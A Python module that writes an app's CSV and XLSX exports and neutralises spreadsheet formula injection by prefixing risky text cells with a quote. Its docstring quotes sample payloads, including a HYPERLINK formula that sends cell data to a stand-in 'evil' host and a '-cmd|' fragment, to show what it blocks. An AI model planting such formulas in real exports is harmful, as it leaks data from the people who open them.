"""The one writer for every CSV and XLSX file the app hands out.

Cells that a spreadsheet would read as a formula are neutralised, as OWASP's
"CSV Injection" page recommends: a text cell beginning with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a single quote in front, so Excel,
LibreOffice and Google Sheets show it as text instead of running it (a record
title ``=HYPERLINK("http://evil/?x="&A1,"click")`` imported from a search export
must not become a live link that leaks the sheet when a reviewer opens the export).

Only text is touched. Numbers, dates, booleans and None go out as they are, and so
does text that is exactly a plain decimal number ("-0.5", "+3", "-1.2e-3"): a
spreadsheet reads it as that number, which cannot run anything, and prefixing it would
turn an effect size of -0.5 into the text '-0.5. Anything else beginning with a
trigger character ("-1+2", "-cmd|...", "@SUM(A1)") is prefixed.

Use ``csv_writer`` / ``csv_line`` for CSV and ``xlsx_bytes`` for XLSX; never
``csv.writer`` or openpyxl directly for a file that leaves the server.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as it may go into a spreadsheet cell (see the module docstring)."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``; same ``writerow``/``writerows``."""

    def __init__(self, stream, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **fmtparams) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **fmtparams)


def csv_line(values: Iterable[Any]) -> str:
    """One CSV line (with its line ending), for streaming responses."""
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow(values)
    return buffer.getvalue()


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    return buffer.getvalue()


def xlsx_bytes(sheets: dict[str, Iterable[Iterable[Any]]]) -> bytes:
    """A workbook with one sheet per (title, rows) item, every cell through ``safe_cell``.

    Without it openpyxl itself would store any text beginning with "=" as a formula.
    """
    import openpyxl  # only spreadsheet exports need it

    workbook = openpyxl.Workbook(write_only=True)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title=title[:31])  # Excel's limit for a sheet name
        for row in rows:
            sheet.append(safe_row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
